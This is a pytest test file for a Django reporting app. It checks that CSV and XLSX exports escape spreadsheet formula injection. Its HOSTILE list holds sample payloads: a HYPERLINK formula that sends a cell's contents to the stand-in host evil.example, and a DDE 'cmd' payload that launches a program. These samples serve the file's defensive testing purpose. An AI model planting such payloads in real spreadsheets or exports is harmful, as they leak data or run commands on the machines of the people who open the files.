"""Exports are safe to open: no cell of a CSV or an XLSX is run as a formula by a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from reports import exports
from reports.tests.factories import make_unit_scores

pytestmark = pytest.mark.anydb  # on SQLite and again on PostgreSQL (pytest --postgres)

OCT = date(2025, 10, 1)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(city, settings):
    settings.LANGUAGE_CODE = "vi"
    city.ward_a.name_vi = HOSTILE[0]
    city.ward_a.save()
    city.ward_b.name_vi = HOSTILE[3]
    city.ward_b.save()
    make_unit_scores(city.ward_a, start=OCT, index=90.0)
    make_unit_scores(city.ward_b, start=OCT, index=80.0)
    return city


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_start_a_formula_are_neutralised(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("Phường Ba Đình") == "Phường Ba Đình"
    assert exports.neutralise(-3.5) == -3.5  # numbers stay numbers
    assert exports.neutralise("+5.0 *") == "+5.0 *"  # a signed change of our own calls nothing
    assert exports.neutralise("-1+1") == "'-1+1"


def _formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith("=") and cell.data_type != "s")
    ]


@pytest.mark.django_db
def test_xlsx_exports_hold_no_formula_and_keep_the_text(client, hostile):
    client.force_login(hostile.dana)
    for url in ("/compare/export/xlsx/", "/units/01/export/xlsx/"):
        content = client.get(url, {"period": "2025-10"}).content
        assert _formulas(content) == [], url
        texts = [c.value for s in load_workbook(io.BytesIO(content)).worksheets for r in s.iter_rows() for c in r]
        assert HOSTILE[0] in texts, url  # kept, as text


@pytest.mark.django_db
def test_csv_exports_and_open_data_neutralise_hostile_names(client, hostile):
    client.force_login(hostile.dana)
    bodies = [b"".join(client.get("/compare/export/csv/", {"period": "2025-10"}).streaming_content)]
    assert client.post("/manage/open-data/", {"unit": "01", "period": "2025-10"}).status_code == 302
    assert client.post("/manage/open-data/01/2025-10/action/", {"action": "publish"}).status_code == 302
    client.logout()
    bodies.append(b"".join(client.get("/open-data/01/2025-10/csv/").streaming_content))
    for body in bodies:
        cells = [c for row in csv.reader(io.StringIO(body.decode().lstrip("\ufeff"))) for c in row]
        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
        assert not any(
            c.startswith(exports.FORMULA_TRIGGERS) for c in cells if c and not c.lstrip("-").replace(".", "").isdigit()
        )


@pytest.mark.django_db
def test_background_exports_are_as_safe_as_immediate_ones(
    client, hostile, settings, tmp_path, django_capture_on_commit_callbacks
):
    from reports.models import ExportJob

    settings.EXPORT_BACKGROUND_MIN_ROWS = 1
    settings.MEDIA_ROOT = str(tmp_path / "media")
    client.force_login(hostile.dana)
    for url in ("/compare/export/xlsx/", "/units/01/export/xlsx/", "/compare/export/csv/"):
        with django_capture_on_commit_callbacks(execute=True):
            assert client.get(url, {"period": "2025-10"}).status_code == 302, url
        job = ExportJob.objects.latest("created_at")
        content = b"".join(client.get(f"/exports/{job.pk}/download/").streaming_content)
        if url.endswith("xlsx/"):
            assert _formulas(content) == [], url
            texts = [c.value for s in load_workbook(io.BytesIO(content)).worksheets for r in s.iter_rows() for c in r]
            assert HOSTILE[0] in texts, url
        else:
            cells = [c for row in csv.reader(io.StringIO(content.decode().lstrip("\ufeff"))) for c in row]
            assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
